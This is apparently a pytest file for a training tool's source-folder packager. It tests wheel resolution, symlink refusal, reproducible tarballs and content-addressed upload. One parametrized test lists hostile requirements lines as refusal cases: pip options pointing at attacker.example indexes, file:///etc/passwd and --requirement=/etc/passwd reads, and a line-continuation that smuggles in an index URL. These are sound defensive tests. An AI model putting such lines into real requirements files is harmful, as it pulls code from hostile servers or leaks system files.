"""Packing a user's source folder (`trainstack run --source-dir`, the notebooks' Estimator): reproducible,
content-addressed, requirements resolved into wheels at packing time. Fast: no deploy, no job.

pip gets no index in these tests: PIP_NO_INDEX with PIP_FIND_LINKS at tests/data/wheelhouse, which holds
the real PyPI wheel of tabulate 0.10.0 (pure Python, no dependencies, not installed in the project's venv).
"""

from __future__ import annotations

import json
import re
import shutil
import tarfile
import uuid
from pathlib import Path

import pytest
from typer.testing import CliRunner

from trainstack.cli import app
from trainstack.config import ResourceNames, load_environment
from trainstack.source_package import PackagingError, image_python_version, pack, upload

REPO_ROOT = Path(__file__).resolve().parent.parent
WHEELHOUSE = REPO_ROOT / "tests" / "data" / "wheelhouse"
EXAMPLE = REPO_ROOT / "examples" / "byo-code"
DLC = (
    "763104351884.dkr.ecr.us-east-1.amazonaws.com/huggingface-pytorch-training:"
    "2.5.1-transformers4.49.0-gpu-py311-cu124-ubuntu22.04"
)


@pytest.fixture
def offline_pip(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_FIND_LINKS", str(WHEELHOUSE))
    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")


@pytest.fixture
def user_code(tmp_path: Path) -> Path:
    source = tmp_path / "project"
    shutil.copytree(EXAMPLE, source)
    return source


def test_requirements_are_shipped_as_wheels_with_an_index_free_requirements_file(offline_pip, user_code: Path) -> None:
    (user_code / "requirements.txt").write_text("# tables\ntabulate==0.10.0  # pinned\n\n")
    package = pack(user_code, "train.py", image_uri=DLC)
    assert package.wheels == ("tabulate-0.10.0-py3-none-any.whl",)
    with tarfile.open(package.tarball) as tar:
        names = tar.getnames()
        requirements = tar.extractfile("requirements.txt").read().decode()  # type: ignore[union-attr]
        members = tar.getmembers()
    assert names == sorted(names) and {"train.py", "wheels/tabulate-0.10.0-py3-none-any.whl"} <= set(names)
    assert all(m.mtime == 315532800 and m.uid == 0 and m.uname == "root" for m in members)
    lines = requirements.splitlines()
    assert lines[2:4] == ["--no-index", "--find-links wheels"] and "tabulate==0.10.0  # pinned" in lines


# Every way pip's line syntax lets a requirements file name a server or another file, and what is no requirement.
@pytest.mark.parametrize(
    ("line", "refusal"),
    [
        ("-f https://attacker.example/wheels", "pip options are not allowed"),
        ("--find-links=https://attacker.example/wheels", "pip options are not allowed"),
        ("-i https://attacker.example/simple", "pip options are not allowed"),
        ("--index-url https://attacker.example/simple", "pip options are not allowed"),
        ("--extra-index-url https://attacker.example/simple", "pip options are not allowed"),
        ("--trusted-host attacker.example", "pip options are not allowed"),
        ("-e git+https://attacker.example/repo.git#egg=x", "pip options are not allowed"),
        ("-r other.txt", "pip options are not allowed"),
        ("-c constraints.txt", "pip options are not allowed"),
        ("--requirement=/etc/passwd", "pip options are not allowed"),
        ("tabulate @ https://attacker.example/tabulate-0.10.0-py3-none-any.whl", "a requirement from a URL"),
        ("tabulate@file:///etc/passwd", "a requirement from a URL"),
        ("https://attacker.example/tabulate-0.10.0-py3-none-any.whl", "not a requirement"),
        ("./wheels/tabulate-0.10.0-py3-none-any.whl", "not a requirement"),
        ("tabulate==0.10.0 --hash=sha256:00", "not a requirement"),
        ("tabulate==${VERSION}", "not a requirement"),
        ("tabulate \\\n  --index-url https://attacker.example/simple", "not a requirement"),
    ],
)
def test_a_requirements_line_that_is_not_a_requirement_by_name_is_refused_naming_file_and_line(
    user_code: Path, line: str, refusal: str
) -> None:
    (user_code / "requirements.txt").write_text(f"# ok\ntabulate==0.10.0\n{line}\n")
    with pytest.raises(PackagingError, match=rf"requirements\.txt, line 3: .*{re.escape(refusal)}"):
        pack(user_code, "train.py", image_uri=DLC)


def test_a_link_out_of_the_folder_is_refused_naming_it(user_code: Path, tmp_path: Path) -> None:
    secret = tmp_path / "credentials"
    secret.write_text("[default]\naws_secret_access_key = x\n")
    (user_code / "config").mkdir()
    (user_code / "config" / "aws").symlink_to(secret)
    with pytest.raises(PackagingError, match=r"config/aws: a symbolic link to .*credentials, outside"):
        pack(user_code, "train.py", image_uri=DLC)
    (user_code / "config" / "aws").unlink()
    (user_code / "outside").symlink_to(tmp_path)  # a folder outside, and one that holds the project (a loop)
    with pytest.raises(PackagingError, match=r"/outside: a symbolic link to .*, outside"):
        pack(user_code, "train.py", image_uri=DLC)


def test_links_inside_the_folder_are_packed_as_their_content_and_loops_are_refused(user_code: Path) -> None:
    (user_code / "requirements.txt").unlink(missing_ok=True)  # nothing to resolve: no pip needed
    (user_code / "lib").mkdir()
    (user_code / "lib" / "helpers.py").write_text("VALUE = 1\n")
    (user_code / "shared").symlink_to(user_code / "lib", target_is_directory=True)
    (user_code / "alias.py").symlink_to(user_code / "lib" / "helpers.py")
    package = pack(user_code, "train.py")
    with tarfile.open(package.tarball) as tar:
        assert {"lib/helpers.py", "shared/helpers.py", "alias.py"} <= set(tar.getnames())
        assert all(member.isfile() for member in tar.getmembers())
        assert tar.extractfile("shared/helpers.py").read() == b"VALUE = 1\n"  # type: ignore[union-attr]
    (user_code / "lib" / "up").symlink_to(user_code, target_is_directory=True)
    with pytest.raises(PackagingError, match=r"lib/up: a symbolic link to .*, a folder that contains it"):
        pack(user_code, "train.py")


def test_an_unresolvable_requirement_fails_at_packing_time_naming_it(offline_pip, user_code: Path) -> None:
    (user_code / "requirements.txt").write_text("tabulate==0.10.0\ntrainstack-no-such-package==1.0\n")
    with pytest.raises(PackagingError, match=r"cannot resolve trainstack-no-such-package==1.0 as a binary wheel"):
        pack(user_code, "train.py", image_uri=DLC)


def test_entry_point_must_be_a_script_inside_the_folder(user_code: Path) -> None:
    for bad in ("../train.py", "/abs/train.py", "train.ipynb"):
        with pytest.raises(PackagingError, match=re.escape("no leading '/', no '..'")):
            pack(user_code, bad, image_uri=DLC)
    with pytest.raises(PackagingError, match=re.escape("'missing.py' is not a file in")):
        pack(user_code, "missing.py", image_uri=DLC)


def test_the_images_python_comes_from_its_dlc_tag() -> None:
    assert image_python_version(DLC) == "311"
    assert image_python_version("x.dkr.ecr.us-east-1.amazonaws.com/pytorch-training:2.1.0-cpu-py310") == "310"
    with pytest.raises(PackagingError, match="no -py3NN- part"):
        image_python_version("123456789012.dkr.ecr.us-east-1.amazonaws.com/trainstack-dev/training:latest")


def test_the_same_folder_packed_twice_uploads_once(offline_pip, user_code: Path, embedded_aws) -> None:
    s3 = embedded_aws.client("s3")
    bucket = f"byo-code-{uuid.uuid4().hex[:8]}"
    s3.create_bucket(Bucket=bucket)
    first = pack(user_code, "train.py", image_uri=DLC)
    second = pack(user_code, "train.py", image_uri=DLC)
    assert first.tarball.read_bytes() == second.tarball.read_bytes()
    assert first.key() == f"code/sourcedir/{first.sha256}/sourcedir.tar.gz"
    assert upload(s3, first, bucket) is True
    assert upload(s3, second, bucket) is False
    assert [o["Key"] for o in s3.list_objects_v2(Bucket=bucket)["Contents"]] == [first.key()]
    # One changed byte is another package under another key.
    (user_code / "train.py").write_text((user_code / "train.py").read_text() + "\n# changed\n")
    third = pack(user_code, "train.py", image_uri=DLC)
    assert third.sha256 != first.sha256 and upload(s3, third, bucket) is True


@pytest.mark.parametrize(
    "command", [[], ["run"], ["status"], ["logs"], ["quotas"], ["pools"], ["pools", "release"], ["package"]]
)
def test_help_works_with_no_aws_reachable(command: list[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr("trainstack.cli.session.EMBEDDED_STATE_FILE", tmp_path / "absent.json")
    result = CliRunner().invoke(app, [*command, "--help"], env={"AWS_ENDPOINT_URL": None})
    assert result.exit_code == 0, result.output
    assert "Usage:" in result.output
    if command == ["run"]:
        assert "--source-dir" in result.output and "--entry-point" in result.output and "--image" in result.output


def test_the_console_example_names_the_package_the_byo_code_example_packs_to(offline_pip) -> None:
    """examples/inputs/byo-code.json is what `trainstack run --source-dir examples/byo-code` uploads (local)."""
    config = load_environment("local")
    example = json.loads((REPO_ROOT / "examples" / "inputs" / "byo-code.json").read_text())
    package = pack(EXAMPLE, "train.py", image_uri=config.image_uri)
    assert example["code"] == {
        "package": package.uri(ResourceNames.of(config).artifacts_bucket),
        "entry_point": "train.py",
    }
